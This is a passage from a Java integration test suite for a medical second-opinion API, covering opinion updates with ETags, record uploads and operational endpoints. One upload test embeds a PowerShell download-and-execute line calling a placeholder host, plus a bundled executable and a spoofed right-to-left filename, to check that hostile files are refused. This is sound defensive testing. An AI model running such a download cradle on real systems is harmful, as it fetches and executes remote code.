            String etag = first.header("ETag").orElseThrow();

            // when
            Response withoutIfMatch = api.put(oncologist, path, opinion(c.questionIds()), null);
            Response stale = api.put(oncologist, path, opinion(c.questionIds()), "\"999\"");
            Response garbled = api.put(oncologist, path, opinion(c.questionIds()), "W/\"abc\"");

            // then
            assertProblem(withoutIfMatch, 428);
            assertProblem(stale, 412);
            assertProblem(garbled, 412);
            Response current = api.get(oncologist, path);
            assertThat(current.header("ETag")).contains(etag);
            assertThat(current.json().get("answers").size()).isEqualTo(1);
        }

        @Test
        void an_opinion_answering_a_question_of_another_case_is_a_400() {
            // given
            Created c = caseInReview();

            // when
            Response refused = api.put(api.token(ONCOLOGIST), "/api/v1/cases/" + c.id() + "/opinion",
                    opinion(List.of(c.questionIds().get(0), UUID.randomUUID().toString())), null);

            // then
            assertProblem(refused, 400);
            assertThat(errorFields(refused)).containsExactly("answers[1].questionId");
            assertProblem(api.get(api.token(ONCOLOGIST), "/api/v1/cases/" + c.id() + "/opinion"), 404);
        }
    }

    @Nested
    class Uploads {

        @Test
        void a_hostile_file_is_a_400_naming_the_problem_and_nothing_is_stored() {
            // given
            Created c = caseOpened();
            String path = "/api/v1/cases/" + c.id() + "/records";
            String patient = api.token(PATIENT);

            // when
            Response script = api.upload(patient, path, "notes.txt", FileFixtures.utf8(
                    "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://example.invalid/a')"),
                    Map.of("category", "CLINICAL_NOTE"));
            Response archive = api.upload(patient, path, "records.zip", FileFixtures.zip("setup/install.exe",
                    FileFixtures.windowsExecutable()), Map.of("category", "OTHER"));
            Response unknown = api.upload(patient, path, "scan.pdf", new byte[] {0x13, 0x37, 0x00, 0x42, 0x7f},
                    Map.of("category", "OTHER"));

            // then
            assertProblem(script, 400);
            assertThat(script.json().get("detail").asString()).isEqualTo(
                    "this file is a script (PowerShell); programs and scripts cannot be uploaded");
            assertThat(errorFields(script)).containsExactly("file");
            assertProblem(archive, 400);
            assertThat(archive.json().get("detail").asString())
                    .startsWith("the archive holds a program (Windows executable): setup/install.exe");
            assertProblem(unknown, 400);
            assertThat(unknown.json().get("detail").asString()).contains("could not be recognised from its content");
            assertThat(recordCount(c.id())).isEqualTo(1);
        }

        @Test
        void a_pdf_named_like_a_program_is_stored_as_a_pdf() {
            // given
            Created c = caseOpened();
            byte[] pdf = FileFixtures.pdf("Discharge summary");

            // when
            Response uploaded = api.upload(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/records",
                    "summary\u202Efdp.exe", pdf, Map.of("category", "DISCHARGE_SUMMARY"));

            // then
            assertThat(uploaded.status()).as("%s", uploaded).isEqualTo(201);
            assertThat(uploaded.json().get("contentType").asString()).isEqualTo("application/pdf");
            assertThat(uploaded.json().get("filename").asString()).isEqualTo("summaryfdp.pdf");
            Response content = api.get(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/records/"
                    + uploaded.json().get("id").asString() + "/content");
            assertThat(content.header("Content-Disposition")).get().asString().contains("summaryfdp.pdf");
        }

        @Test
        void a_file_name_longer_than_255_characters_is_a_400_saying_so_however_long_it_is() {
            // given
            Created c = caseOpened();
            String path = "/api/v1/cases/" + c.id() + "/records";
            String patient = api.token(PATIENT);

            // when
            Response longest = api.upload(patient, path, "n".repeat(251) + ".pdf", FileFixtures.pdf("a"),
                    Map.of("category", "OTHER"));
            Response tooLong = api.upload(patient, path, "n".repeat(252) + ".pdf", FileFixtures.pdf("b"),
                    Map.of("category", "OTHER"));
            Response farTooLong = api.upload(patient, path, "n".repeat(20_000) + ".pdf", FileFixtures.pdf("c"),
                    Map.of("category", "OTHER"));

            // then
            assertThat(longest.status()).as("%s", longest).isEqualTo(201);
            for (Response refused : List.of(tooLong, farTooLong)) {
                assertProblem(refused, 400);
                assertThat(refused.json().get("detail").asString())
                        .isEqualTo("the file name is too long (at most 255 characters)");
                assertThat(errorFields(refused)).containsExactly("file");
            }
            assertThat(recordCount(c.id())).isEqualTo(2);
        }
    }

    @Nested
    class Operations {

        @Test
        void health_is_public() {
            // when
            Response health = api.get(null, "/actuator/health");

            // then
            assertThat(health.status()).isEqualTo(200);
            assertThat(health.json().get("status").asString()).isEqualTo("UP");
        }

        @Test
        void metrics_need_an_admin_token() {
            // when
            Response anonymous = api.get(null, "/actuator/metrics");
            Response patient = api.get(api.token(PATIENT), "/actuator/metrics");
            Response admin = api.get(api.token(ADMIN), "/actuator/metrics");

            // then
            assertProblem(anonymous, 401);
            assertProblem(patient, 403);
            assertThat(admin.status()).isEqualTo(200);
        }

        @Test
        void the_openapi_description_lists_the_case_endpoints() {
            // when
            Response docs = api.get(null, "/v3/api-docs");

            // then
            assertThat(docs.status()).isEqualTo(200);
            assertThat(docs.contentType()).startsWith("application/json");
            assertThat(docs.json().get("paths").propertyNames()).contains("/api/v1/cases",
                    "/api/v1/cases/{id}/opinion");
        }
    }

    // ---- fixtures: cases at each stage, made through the API --------------------------------------------------

    /** A case as the tests made it: its id, its questions in order, and its one record. */
    record Created(String id, List<String> questionIds, String recordId) {
    }

    private Created caseOpened() {
        String patient = api.token(PATIENT);
        Response opened = api.post(patient, "/api/v1/cases", caseRequest());
        assertThat(opened.status()).as("%s", opened).isEqualTo(201);
        String id = opened.json().get("id").asString();
        Response uploaded = api.upload(patient, "/api/v1/cases/" + id + "/records", "pathology.pdf",
                FileFixtures.pdf("Pathology " + id), Map.of("category", "PATHOLOGY_REPORT"));
        assertThat(uploaded.status()).as("%s", uploaded).isEqualTo(201);
        return new Created(id, questionIds(opened.json()), uploaded.json().get("id").asString());
    }

    private Created caseSubmitted() {
        Created c = caseOpened();
        assertStatus(api.post(api.token(PATIENT), "/api/v1/cases/" + c.id() + "/submit", null), "SUBMITTED");
        return c;
    }

    private Created caseOffered() {
        Created c = caseSubmitted();
        String coordinator = api.token(COORDINATOR);
        assertStatus(api.post(coordinator, "/api/v1/cases/" + c.id() + "/triage", Map.of("decision", "ACCEPT")),
                "COLLECTING_RECORDS");
        api.waiveChecklist(coordinator, c.id());
        assertStatus(api.post(coordinator, "/api/v1/cases/" + c.id() + "/records-complete", null),
                "READY_FOR_MATCHING");
        String oncologistId = specialistId(api.get(coordinator, "/api/v1/specialists?specialty=MEDICAL_ONCOLOGY")
                .json(), "Dr. Elena Marchetti");
        assertStatus(api.post(coordinator, "/api/v1/cases/" + c.id() + "/offers",
                Map.of("specialistId", oncologistId)), "OFFERED");
        return c;
    }

    private Created caseInReview() {
        Created c = caseOffered();
        assertStatus(api.post(api.token(ONCOLOGIST), "/api/v1/cases/" + c.id() + "/accept", null), "IN_REVIEW");
        return c;
    }

    private Created caseDelivered() {
        Created c = caseInReview();
        String oncologist = api.token(ONCOLOGIST);
        Response draft = api.put(oncologist, "/api/v1/cases/" + c.id() + "/opinion", opinion(c.questionIds()), null);
        assertThat(draft.status()).as("%s", draft).isEqualTo(200);
        Response signed = api.post(oncologist, "/api/v1/cases/" + c.id() + "/opinion/sign", null);
        assertThat(signed.status()).as("%s", signed).isEqualTo(200);
        return c;
    }

    private String openCase(String patientToken) {
        Response opened = api.post(patientToken, "/api/v1/cases", caseRequest());
        assertThat(opened.status()).as("%s", opened).isEqualTo(201);
        return opened.json().get("id").asString();
    }

    /** A valid open-case request with two questions; mutable, so a test can spoil one field. */
    private static Map<String, Object> caseRequest() {
        Map<String, Object> request = new LinkedHashMap<>();
        request.put("diagnosis", "Invasive ductal carcinoma, left breast");
        request.put("icd10Code", "C50.9");
        request.put("stage", "IIA");
        request.put("proposedPlan", "Six cycles of adjuvant chemotherapy");
        request.put("specialty", "MEDICAL_ONCOLOGY");
        request.put("urgency", "URGENT");
        request.put("decisionDeadline", "2027-01-15");
        request.put("questions", List.of(
                Map.of("kind", "TREATMENT_OPTIONS", "text", "Do I need all six cycles?"),
                Map.of("kind", "RISKS_AND_BENEFITS", "text", "What are the long-term risks?")));
        return request;
    }

    /** A complete opinion answering the given questions. */
    private static Map<String, Object> opinion(List<String> answered) {
        List<Map<String, String>> answers = new ArrayList<>();
        for (String questionId : answered) {
            answers.add(Map.of("questionId", questionId, "text", "Answer to " + questionId));
        }
        Map<String, Object> opinion = new LinkedHashMap<>();
        opinion.put("diagnosisAssessment", "CONFIRMED");
        opinion.put("planRecommendation", "MODIFY");
        opinion.put("recommendedPlan", "Four cycles are enough");
        opinion.put("answers", answers);
        opinion.put("furtherTests", List.of("Oncotype DX"));
        opinion.put("patientSummary", "Your diagnosis is right; a shorter treatment is as good.");
        return opinion;
    }

    // ---- reading answers ---------------------------------------------------------------------------------------

    private int recordCount(String caseId) {
        Response records = api.get(api.token(PATIENT), "/api/v1/cases/" + caseId + "/records");
        assertThat(records.status()).isEqualTo(200);
        return records.json().size();
    }

    private static void assertStatus(Response response, String status) {
        assertThat(response.status()).as("%s", response).isEqualTo(200);
        assertThat(response.json().get("status").asString()).isEqualTo(status);
    }

    /** An RFC 9457 problem: the status, its media type, and every member a client relies on. */
    private static List<String> errorFields(Response response) {
        return response.json().path("errors").values().stream().map(e -> e.get("field").asString()).toList();
    }

    private static List<String> questionIds(JsonNode c) {
        return c.get("questions").values().stream().map(q -> q.get("id").asString()).toList();
    }

    private static List<String> ids(JsonNode items) {
        return items.values().stream().map(i -> i.get("id").asString()).toList();
    }

    private static JsonNode item(JsonNode items, String id) {
        return items.values().stream().filter(i -> i.get("id").asString().equals(id)).findFirst()
                .orElseThrow(() -> new AssertionError("case " + id + " is not in " + items));
    }

    private static String specialistId(JsonNode directory, String name) {
        return directory.values().stream().filter(s -> s.get("name").asString().equals(name)).findFirst()
                .orElseThrow(() -> new AssertionError(name + " is not in " + directory))
                .get("id").asString();
    }

    private static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }
}
